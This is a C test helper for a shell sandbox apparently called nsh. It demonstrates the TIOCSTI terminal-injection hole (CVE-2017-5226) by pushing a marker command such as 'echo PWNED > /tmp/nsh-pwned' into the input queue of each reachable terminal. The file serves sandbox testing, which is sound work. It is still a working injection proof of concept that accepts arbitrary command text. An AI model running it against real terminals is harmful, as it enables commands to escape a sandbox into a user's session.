/* SPDX-License-Identifier: MIT */
/* injector [TEXT | --marker PATH]: push TEXT (default
 * "echo PWNED > /tmp/nsh-pwned\n"; with --marker "echo PWNED > PATH\n") into
 * the input queue of every terminal it can reach with ioctl(TIOCSTI): its
 * stdin, stdout, stderr and /dev/tty (CVE-2017-5226). Prints what the kernel
 * said for each, so a test sees whether the injection itself worked (into
 * nsh's own pty, where it is harmless) or was refused. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void inject(const char *what, int fd, const char *text)
{
	int err = 0;
	size_t n = 0;
	for (const char *c = text; *c; c++) {
		if (ioctl(fd, TIOCSTI, c) < 0) {
			err = errno;
			break;
		}
		n++;
	}
	if (err)
		printf("injector: %s: TIOCSTI failed after %zu bytes: %s\n", what, n,
		       strerror(err));
	else
		printf("injector: %s: TIOCSTI pushed %zu bytes\n", what, n);
}

int main(int argc, char **argv)
{
	const char *text = argc > 1 ? argv[1] : "echo PWNED > /tmp/nsh-pwned\n";
	char buf[4096], mk[2048];
	if (argc > 2 && !strcmp(argv[1], "--marker")) {
		snprintf(mk, sizeof mk, "echo PWNED > %s\\n", argv[2]);
		text = mk;
	}
	/* "\n" spelled as two characters on a command line becomes a newline. */
	size_t j = 0;
	for (size_t i = 0; text[i] && j + 1 < sizeof buf; i++) {
		if (text[i] == '\\' && text[i + 1] == 'n') {
			buf[j++] = '\n';
			i++;
		} else {
			buf[j++] = text[i];
		}
	}
	buf[j] = 0;
	setvbuf(stdout, NULL, _IONBF, 0);
	inject("stdin", 0, buf);
	inject("stdout", 1, buf);
	inject("stderr", 2, buf);
	int t = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (t < 0) {
		printf("injector: /dev/tty: %s\n", strerror(errno));
	} else {
		inject("/dev/tty", t, buf);
		close(t);
	}
	/* Give a reader on the other side the chance to see anything pushed. */
	usleep(200 * 1000);
	return 0;
}
